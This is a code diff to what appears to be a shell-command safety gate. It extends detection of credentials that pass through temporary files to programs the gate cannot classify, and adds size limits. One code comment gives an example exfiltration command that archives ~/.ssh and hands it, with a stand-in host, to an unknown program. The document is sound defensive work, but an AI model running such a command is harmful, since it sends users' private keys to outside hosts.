@@ -768,6 +768,11 @@ function outputFiles(command: PipelineCommand): string[] {
   return out;
 }
 
+/** Most commands of a line read for a file that holds a credential handed to a program without a row. */
+const MAX_HANDED_ON_COMMANDS = 32;
+/** Most words of those commands, together. */
+const MAX_HANDED_ON_WORDS = 512;
+
 /**
  * Credentials that reach a sink through a file written earlier on the line (D§5, docs/decisions.md
  * "Credentials leaving: any network-capable program"): a source whose output is redirected to a
@@ -780,10 +785,27 @@ export function checkThroughFiles(line: readonly LineCommand[]): HardlineFinding
   const tainted = new Map<string, string>();
   const unitsWithSink = new Set<number>();
   for (const command of line) if (sinkName(command) !== null) unitsWithSink.add(command.unit);
-  if (unitsWithSink.size === 0) return null;
+  // A program the table cannot place sends, at its worst, the files it is handed (unplacedSenders.ts).
+  // Read on lines of up to MAX_HANDED_ON_COMMANDS commands and MAX_HANDED_ON_WORDS words: the floor
+  // reads every suffix of an unknown launcher's words as a line of its own, and longer lines of them
+  // (adversarial, not written by hand) would make this quadratic; past the bounds only the sinks are
+  // read (a known limit).
+  const words = line.reduce((sum, command) => sum + command.record.peeled.argv.length, 0);
+  const mayHandOn = line.length > MAX_HANDED_ON_COMMANDS || words > MAX_HANDED_ON_WORDS ? line.map(() => false) : line.map((command) => sendsWordsAtWorst(command.record));
+  if (unitsWithSink.size === 0 && !mayHandOn.includes(true)) return null;
   for (let k = 0; k < line.length; k++) {
     const command = line[k]!;
     const argv = command.record.peeled.argv;
+    if (tainted.size > 0 && mayHandOn[k] === true) {
+      // The file holds the credential: handed to such a program, it is handed on as the credential
+      // itself would be (`tar czf /tmp/k.tgz ~/.ssh && frob /tmp/k.tgz host.example`).
+      const words = unplacedWords(argv);
+      for (const word of [...words.sent, ...words.other]) {
+        const text = wordPathText(word);
+        const source = tainted.get(text);
+        if (source !== undefined) return hardlineFinding('credential-exfiltration', `${source}, written to ${text} earlier on the line, goes to ${commandName(argv[0])?.name ?? 'a program'} (a program the gate cannot place, which may send what it is handed)`);
+      }
+    }
     if (tainted.size > 0 && unitsWithSink.has(command.unit)) {
       const named = [...argv.slice(1), ...command.redirects.filter((redirect) => redirect.op === '<' || redirect.op === '<>').map((redirect) => redirect.target)];
       for (const word of named) {
